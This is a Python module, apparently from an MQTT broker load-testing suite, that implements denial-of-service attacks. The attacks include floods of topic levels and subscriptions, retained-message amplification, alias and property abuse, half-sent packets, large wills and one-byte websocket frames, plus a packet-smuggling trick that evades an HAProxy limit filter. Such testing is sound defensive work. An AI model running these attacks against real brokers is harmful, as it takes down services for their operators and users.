# SPDX-FileCopyrightText: the opendev.firehose authors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Packets that cost a broker much more than the client: each kind of packet with such an effect, from one address."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import typing as t

from .. import frames, packets, wire
from ..attack import attack
from ..field import Field
from ..packets import V3, V5, VERSIONS
from .floods import KEEPALIVE

# The limit for one address
CLIENTS = 30
Do = t.Callable[[wire.Connection, int], t.Awaitable[None]]


async def again_and_again(field: Field, do: Do, version: int = V3, *, clean: bool = True, reads: bool = True) -> None:
    """Do something on each of many connections, and connect again when one has ended. `through` counts connections."""
    numbers = itertools.count()

    async def client(place: int) -> None:
        listener = field.target.listeners[place % len(field.target.listeners)]
        while field.left:
            number = next(numbers)
            field.tried += 1
            try:
                connection = await field.connect(listener, timeout=5)
            except wire.FAILURES:
                await asyncio.sleep(0.2)
                continue
            with contextlib.suppress(*wire.FAILURES):
                hello = packets.connect(version, f"cost-{number}", keepalive=KEEPALIVE, clean=clean, expiry=86400)
                await wire.log_in(connection, version, hello)
                field.through += 1
                reading = asyncio.create_task(connection.drain(field.left) if reads else field.hold())
                try:
                    await asyncio.wait_for(do(connection, number), max(field.left, 0.1))
                    await asyncio.wait_for(reading, max(field.left, 0.1))
                finally:
                    reading.cancel()
            connection.vanish()

    await field.each(range(CLIENTS), client, at_once=CLIENTS, again=False)


def chains(number: int, levels: int) -> t.Iterator[str]:
    """Topic filters of many levels that share nothing: each level has one letter, and its own table in the broker."""
    for place in itertools.count():
        yield f"{number}-{place}" + "/x" * levels


@attack("topic levels that nothing shares", sources=1)
async def topic_levels(field: Field) -> None:
    """The most memory for a byte."""

    async def subscribe(connection: wire.Connection, number: int) -> None:
        for topic in chains(number, 60):
            await connection.send(packets.subscribe(V3, [topic]))
            await asyncio.sleep(0.02)

    await again_and_again(field, subscribe)


@attack("topic levels that are held", sources=1)
async def held_levels(field: Field) -> None:
    """As many as a client can have, for the whole attack."""

    async def subscribe(connection: wire.Connection, number: int) -> None:
        await connection.send(packets.subscribe(V3, itertools.islice(chains(number, 62), 8)))
        await field.hold()

    await again_and_again(field, subscribe)


@attack("subscriptions that are left behind", sources=1)
async def left_behind(field: Field) -> None:
    """Sessions that expire after a day, each with as many topic levels as it can have."""

    async def subscribe(connection: wire.Connection, number: int) -> None:
        await connection.send(packets.subscribe(V5, itertools.islice(chains(number, 62), 8)))
        await asyncio.sleep(0.2)
        connection.vanish()

    await again_and_again(field, subscribe, V5, clean=False)


@attack("retained messages again and again", sources=1, retained=2000)
async def retained_messages(field: Field) -> None:
    """All retained messages for each SUBSCRIBE, which needs only a few bytes."""

    async def subscribe(connection: wire.Connection, _number: int) -> None:
        while True:
            await connection.send(packets.subscribe(V3, ["#"]))
            await asyncio.sleep(0.05)

    await again_and_again(field, subscribe)


@attack("topic aliases and properties", sources=1)
async def aliases(field: Field) -> None:
    """A broker stores a topic for each alias, and may read many properties."""

    async def publish(connection: wire.Connection, number: int) -> None:
        for alias in itertools.cycle(range(1, 11)):
            known = packets.number_property(packets.TOPIC_ALIAS, alias)
            known += b"".join(b"\x26" + packets.string("a") * 2 for _each in range(100))
            topic = f"hostile/{number}/{alias}/" + "y" * 8000
            await connection.send(packets.publish(V5, topic, b"x", properties_=known))
            await asyncio.sleep(0.05)

    await again_and_again(field, publish, V5)


@attack("half packets", sources=1)
async def half_packets(field: Field) -> None:
    """A broker may store incomplete packets until the rest arrives."""

    async def begin(connection: wire.Connection, _number: int) -> None:
        whole = packets.publish(V3, "hostile/half", bytes(200_000))
        await connection.send(whole[:-1])
        await field.hold()

    await again_and_again(field, begin)


@attack("wills", sources=1)
async def wills(field: Field) -> None:
    """A broker stores the will of each client."""

    async def client(place: int) -> None:
        listener = field.target.listeners[place % len(field.target.listeners)]
        version = VERSIONS[place // 2 % 2]
        connection = await field.insist(listener)
        try:
            field.tried += 1
            will = packets.Will("hostile/will", bytes(65535))
            await wire.log_in(connection, version, packets.connect(version, keepalive=KEEPALIVE, will=will))
            field.through += 1
            await field.hold()
        finally:
            connection.vanish()

    await field.each(range(CLIENTS), client, at_once=CLIENTS, again=False)


@attack("frames of one byte", sources=1)
async def small_frames(field: Field) -> None:
    """Each has a header to read."""

    async def client(_place: int) -> None:
        [listener, *_others] = field.target.of("websockets")
        while field.left:
            connection = await field.insist(listener)
            with contextlib.suppress(*wire.FAILURES):
                hello = packets.connect(V3, keepalive=KEEPALIVE) + packets.subscribe(V3, ["hostile/frames"])
                for byte in hello + packets.PINGREQ * 1000:
                    field.tried += 1
                    await connection.send_raw(frames.frame(bytes([byte])))
                field.through += 1
                await connection.drain(1)
            connection.vanish()

    await field.each(range(CLIENTS), client, at_once=CLIENTS, again=False)


@attack("all of it from one address", sources=1, retained=2000, long_seconds=600)
async def all_of_it(field: Field) -> None:
    """Each client does the most expensive things until it is disconnected, and connects again."""

    async def mix(connection: wire.Connection, number: int) -> None:
        filters = ["#", *itertools.islice(chains(number, 60), 4)]
        for topic in itertools.cycle(filters):
            await connection.send(packets.subscribe(V3, [topic]))
            await connection.send(packets.publish(V3, "hostile/all", bytes(1000)) + packets.PINGREQ)
            await asyncio.sleep(0.1)

    await again_and_again(field, mix)


@attack("all of it from 64 addresses", sources=64, retained=2000, long_seconds=600)
async def all_of_it_from_64(field: Field) -> None:
    """The same with as many clients of each address."""
    await asyncio.gather(*(all_of_it(field) for _address in range(64 if field.long else 8)))


def lookalike() -> tuple[bytes, bytes]:
    """A CONNECT whose will looks like a PUBLISH, and packets after it that HAProxy's Lua once mistook for that PUBLISH."""
    size, middle, visible = 2000, 1000, 1500

    def publish(length: int) -> bytes:
        # With this length, the remaining length has two bytes.
        return packets.publish(V3, "t", bytes(length - 6))

    will = packets.Will(
        "w", bytes(size - len(packets.connect(V3, "lookalike", will=packets.Will("w", bytes(1000)))) + 1000)
    )
    connect = packets.connect(V3, "lookalike", will=will)
    hidden = b"".join(packets.subscribe(V3, [f"{number}" + "/" * 150]) for number in range(4))
    rest = publish(size - middle - len(hidden))
    return connect[:middle] + publish(size - middle), publish(visible + middle) + hidden + rest


@attack("packets that look like others", forbidden=True, seconds=2)
async def lookalikes(field: Field) -> None:
    """More topic levels than a client can have, in packets that the limits do not see."""
    connect, others = lookalike()

    async def send(_number: int) -> None:
        [listener, *_others] = field.target.of("tcp")
        connection = await field.connect(listener)
        field.tried += 1
        try:
            await connection.send(connect + others[:1400])
            await asyncio.sleep(0.3)
            await connection.send(others[1400:])
            got = await connection.drain(1)
            field.through += [packet.kind for packet in got].count(packets.SUBACK) == 4
        finally:
            connection.vanish()

    await field.each(range(8), send, at_once=8, again=False)
